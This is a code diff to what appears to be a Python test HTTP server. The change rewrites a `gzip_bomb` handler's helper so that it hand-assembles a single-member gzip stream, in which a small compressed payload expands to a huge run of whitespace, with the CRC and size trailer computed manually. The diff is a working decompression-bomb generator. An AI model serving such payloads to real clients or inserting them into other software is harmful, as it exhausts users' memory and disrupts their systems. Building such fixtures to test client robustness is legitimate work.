@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import asyncio
+import functools
 import json
+import struct
 import zlib
 from collections.abc import Callable, Mapping
 from typing import Any
@@ -230,7 +232,19 @@ async def gzip_bomb(exchange: Exchange) -> None:
 
 
 def _bomb(body: bytes) -> bytes:
-    pack = zlib.compressobj(1, wbits=31)  # one member: not every reader goes on after the first
-    block = b" " * 10_000_000
-    parts = [pack.compress(body), *(pack.compress(block) for _ in range(_BOMB // len(block)))]
-    return b"".join([*parts, pack.flush()])
+    """Pack the body and much white space as one gzip member: some readers stop after the first."""
+    space = b" " * 10_000_000
+    times = _BOMB // len(space)
+    crc = zlib.crc32(body)
+    for _ in range(times):
+        crc = zlib.crc32(space, crc)
+    size = (len(body) + _BOMB) % 2**32
+    packed = _packed_alone(body) + _packed_alone(space) * times + b"\x03\x00"
+    return b"\x1f\x8b\x08" + bytes(6) + b"\xff" + packed + struct.pack("<II", crc, size)
+
+
+@functools.cache
+def _packed_alone(data: bytes) -> bytes:
+    """Deflate something so that it can be put together with other such pieces."""
+    pack = zlib.compressobj(wbits=-15)
+    return pack.compress(data) + pack.flush(zlib.Z_FULL_FLUSH)
